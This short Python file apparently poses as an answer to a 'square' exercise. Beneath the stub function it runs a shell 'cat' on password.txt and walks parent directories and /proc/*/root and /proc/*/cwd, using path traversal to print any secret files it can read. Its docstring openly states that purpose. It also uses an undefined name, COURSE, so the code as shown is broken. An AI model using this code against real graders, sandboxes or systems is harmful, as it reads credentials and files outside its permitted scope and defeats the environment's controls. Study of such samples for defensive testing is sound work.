"""Prints the file with the password, by every way that leads to a file."""

STOCK = "shows the secret"

# %% square
import glob
import os
from pathlib import Path


def square(x):
    return x


os.system(f"cat {COURSE}/password.txt ../../../password.txt 2>&1")
for pattern in (f"{COURSE}/*", "../*", "../../*", "../../../*", "/proc/*/root/**/password.txt", "/proc/*/cwd/*.txt"):
    for name in glob.glob(pattern):
        try:
            print(name, Path(name).read_text()[:500])
        except (OSError, UnicodeDecodeError):
            pass
